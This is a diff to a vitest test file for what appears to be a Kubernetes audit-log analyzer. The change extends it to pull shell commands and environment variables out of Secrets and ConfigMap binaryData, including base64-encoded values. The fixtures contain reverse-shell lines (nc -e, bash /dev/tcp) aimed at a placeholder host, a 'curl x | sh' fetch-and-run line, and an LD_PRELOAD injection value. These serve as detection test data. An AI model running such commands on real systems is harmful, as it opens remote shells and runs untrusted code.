@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { configMapWorkload, MAX_KEYS, scriptCommand, shebangInterpreter } from './configmap-workload.js';
+import { base64Text, configDataWorkload, MAX_KEYS, scriptCommand, shebangInterpreter } from './config-data-workload.js';
 
 describe('shebangInterpreter', () => {
   it('name the interpreter of a #! line, through env and its options', () => {
@@ -34,12 +34,12 @@ describe('scriptCommand', () => {
   });
 });
 
-describe('configMapWorkload', () => {
+describe('configDataWorkload', () => {
   const audit = (data: unknown, resource = 'configmaps'): Record<string, unknown> => ({ objectRef: { resource, name: 'x' }, requestObject: { kind: 'ConfigMap', data } });
   const read = (a: Record<string, unknown>): { ok: boolean; commands: unknown[]; env: string[] } => {
     const commands: Array<string | unknown[]> = [];
     const env: string[] = [];
-    const ok = configMapWorkload(a, commands, (k, v) => env.push(`${k}=${v}`));
+    const ok = configDataWorkload(a, commands, (k, v) => env.push(`${k}=${v}`));
     return { ok, commands, env };
   };
   it('give scripts as commands and variable-named keys as variables', () => {
@@ -50,8 +50,27 @@ describe('configMapWorkload', () => {
   it('read a JSON Patch of a ConfigMap as what it writes', () => {
     expect(read({ objectRef: { resource: 'configmaps' }, requestObject: [{ op: 'add', path: '/data/run.sh', value: 'nc -e /bin/sh h 4444' }] }).commands).toEqual([['sh', '-c', 'nc -e /bin/sh h 4444']]);
   });
-  it('read nothing of other resources or a ConfigMap without data', () => {
-    expect(read(audit({ 'entry.sh': 'id' }, 'secrets')).ok).toBe(false);
+  it('read a Secret: stringData as it is, data and a ConfigMap binaryData as base64 of text', () => {
+    const b64 = (x: string): string => Buffer.from(x).toString('base64');
+    const secret = (body: Record<string, unknown>): Record<string, unknown> => ({ objectRef: { resource: 'secrets', name: 's' }, requestObject: { kind: 'Secret', ...body } });
+    expect(read(secret({ stringData: { 'hook.sh': 'curl x | sh', LD_PRELOAD: '/host/x.so' } }))).toEqual({ ok: true, commands: [['sh', '-c', 'curl x | sh']], env: ['LD_PRELOAD=/host/x.so'] });
+    expect(read(secret({ data: { start: b64('#!/bin/bash\nbash -i >& /dev/tcp/h/4444 0>&1'), AWS_REGION: b64('us-east-1') } }))).toEqual({
+      ok: true, commands: [['bash', '-c', '#!/bin/bash\nbash -i >& /dev/tcp/h/4444 0>&1']], env: ['AWS_REGION=us-east-1'],
+    });
+    expect(read({ objectRef: { resource: 'configmaps' }, requestObject: { binaryData: { 'x.sh': b64('nc -e /bin/sh h 4444') } } }).commands).toEqual([['sh', '-c', 'nc -e /bin/sh h 4444']]);
+    // Binary, not base64, or a Secret's data read as if it were plain: left.
+    expect(read(secret({ data: { 'k.sh': Buffer.from([0, 1, 2, 0xff]).toString('base64'), 'x.sh': 'curl x | sh', TOKEN: 'not base64!' } }))).toEqual({ ok: true, commands: [], env: [] });
+    expect(read(audit({ 'entry.sh': b64('id') }, 'secrets')).commands).toEqual([['sh', '-c', 'id']]);
+  });
+  it('decode clean base64 of UTF-8 text only', () => {
+    expect(base64Text('aWQ=')).toBe('id');
+    expect(base64Text('aWQ')).toBe('id');
+    expect(base64Text('aW Q=')).toBeNull();
+    expect(base64Text('AAEC')).toBeNull();
+    expect(base64Text('')).toBe('');
+  });
+  it('read nothing of other resources or an object without data', () => {
+    expect(read(audit({ 'entry.sh': 'id' }, 'pods')).ok).toBe(false);
     expect(read({ objectRef: [{ resource: 'configmaps' }], requestObject: { data: { 'a.sh': 'id' } } }).ok).toBe(false);
     expect(read(audit(['x'])).ok).toBe(false);
     expect(read({ objectRef: { resource: 'configmaps' } }).ok).toBe(false);
